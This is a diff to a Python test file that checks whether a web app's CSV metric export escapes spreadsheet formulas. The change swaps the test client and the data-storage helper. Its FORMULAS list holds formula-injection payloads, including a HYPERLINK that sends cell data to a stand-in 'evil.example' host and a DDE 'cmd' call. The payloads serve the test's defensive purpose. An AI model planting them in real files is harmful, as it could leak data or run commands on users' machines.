@@ -26,7 +26,9 @@ from inference.registry.services import external_version
 from inference.runtime.session import ModelRefused, load_session
 from inference.serving.plan import Plan, publish_plan
 from monitors.metrics.models import MetricPoint
+from tests.pages_client import PagesClient
 from tests.worlds.approvals import make_model
+from tests.worlds.points import store_points
 
 FORMULAS = ['=HYPERLINK("http://evil.example?"&A1)', "@SUM(1+1)*cmd", "\t=1+1", "-1+cmd|' /C calc'!A0"]
 NAMES = [
@@ -150,17 +152,18 @@ class TestPages:
 
     @pytest.fixture
     def client(self, owner: User, project: Project) -> Client:
-        client = Client()
+        client = PagesClient()
         client.force_login(owner)
         return client
 
     def test_a_models_data_holds_no_formula(self, client: Client, project: Project) -> None:
         model = make_model(project)
         for place, name in enumerate(FORMULAS):
-            MetricPoint.objects.create(
-                model=model, metric="psi", feature=name, role="champion", version="1", segment="", span="day",
-                start=now().replace(hour=place, minute=0, second=0, microsecond=0), end=now(), value=-0.5, n=1,
-                status="ok",
+            store_points(
+                MetricPoint(
+                    model=model, metric="psi", feature=name, role="champion", version="1", segment="", span="day",
+                    start=now().replace(hour=place, minute=0, second=0, microsecond=0), value=-0.5, n=1, status="ok",
+                )
             )  # fmt: skip
 
         answer = client.get(f"/models/{model.name}/data.csv?metric=psi")
